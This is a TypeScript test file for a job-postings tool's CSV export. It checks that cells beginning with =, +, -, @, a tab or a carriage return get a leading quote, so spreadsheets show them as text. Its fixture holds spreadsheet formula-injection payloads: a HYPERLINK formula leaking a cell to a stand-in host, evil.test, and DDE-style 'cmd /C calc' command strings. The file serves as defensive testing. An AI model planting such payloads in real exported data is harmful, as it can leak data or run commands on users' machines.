// CSV is safe to open in a spreadsheet (DESIGN.md, "Interfaces"; OWASP's rule): `export --format csv` and
// `query --csv` write a text cell that begins with = + - @, a tab or a carriage return with a ' in front, so
// =HYPERLINK(…), +cmd|…, @SUM(…) from a scraped posting are shown as text, never run. Numbers stay numbers,
// and importing jobtrend's own CSV takes the ' off again: export → import → export is still exact.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFile } from '../../src/import/import-file.js';
import { openDatabase } from '../../src/store/database.js';
import { upsertPostings } from '../../src/store/posting-store.js';
import { ensureSource } from '../../src/store/source-store.js';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/text/spreadsheet-safe.js';
import { makePosting } from '../support/posting-factory.js';
import { runCli } from '../support/run-cli.js';
import { tempDir } from '../support/temp-db.js';

const { dir, cleanup } = tempDir('jobtrend-csv-formulas-');
const db = join(dir, 'jobs.sqlite');
const HOSTILE = {
  title: '=HYPERLINK("http://evil.test/?leak="&A1,"Apply")',
  company: "+cmd|' /C calc'!A0",
  description: '@SUM(1+1)*cmd|" /C calc"!A0',
  location_raw: '-2+3+cmd|" /C calc"!A0',
  salary_raw: '\t=1+1',
};

beforeAll(() => {
  const store = openDatabase(db);
  ensureSource(store, { id: 'test', name: 'test', kind: 'api', base_url: null }, '2026-01-01T00:00:00Z');
  upsertPostings(
    store,
    [
      makePosting({ source_posting_id: 'evil', ...HOSTILE, salary_min: -5 }),
      // Already quoted by its author: it must survive the round trip as written.
      makePosting({ source_posting_id: 'quoted', title: "'=not a formula", company: "'plain" }),
    ],
    { seenAt: '2026-01-02T00:00:00.000Z' },
  );
  store.close();
});
afterAll(cleanup);

const cells = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

describe('export --format csv', () => {
  it('writes every cell a spreadsheet would run with a leading quote', async () => {
    const r = await runCli(['--db', db, 'export', '--all', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const row = cells(r.stdout).find((c) => c.source_posting_id === 'evil')!;
    for (const [column, text] of Object.entries(HOSTILE)) expect(row[column], column).toBe(`'${text}`);
    expect(row.salary_min).toBe('-5');
    const quoted = cells(r.stdout).find((c) => c.source_posting_id === 'quoted')!;
    expect(quoted.title).toBe("''=not a formula");
    expect(quoted.company).toBe("'plain");
  });

  it('round-trips: importing its own CSV restores the text exactly', async () => {
    const csv = join(dir, 'export.csv');
    writeFileSync(csv, (await runCli(['--db', db, 'export', '--all', '--format', 'csv'])).stdout);
    const copy = join(dir, 'copy.sqlite');
    const target = openDatabase(copy);
    await importFile(target, csv);
    target.close();
    const original = await runCli(['--db', db, 'export', '--all']);
    const restored = await runCli(['--db', copy, 'export', '--all']);
    expect(restored.stdout).toBe(original.stdout);
    expect(restored.stdout).toContain(JSON.stringify(HOSTILE.title));
  });
});

describe('query --csv', () => {
  it('writes text cells a spreadsheet would run with a leading quote, numbers as they are', async () => {
    const r = await runCli([
      '--db',
      db,
      'query',
      '--csv',
      "SELECT title, company, salary_min, -3 AS n FROM postings WHERE source_posting_id = 'evil'",
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(cells(r.stdout)).toEqual([
      { title: `'${HOSTILE.title}`, company: `'${HOSTILE.company}`, salary_min: '-5', n: '-3' },
    ]);
  });
});

describe('spreadsheetSafe', () => {
  it.each(['=1', '+1', '-1', '@A', '\tx', '\rx', "'=1", "''+1", 'plain', "'plain", '', '1-2'])(
    '%j comes back from fromSpreadsheetSafe as it was',
    (text) => {
      expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
    },
  );
});
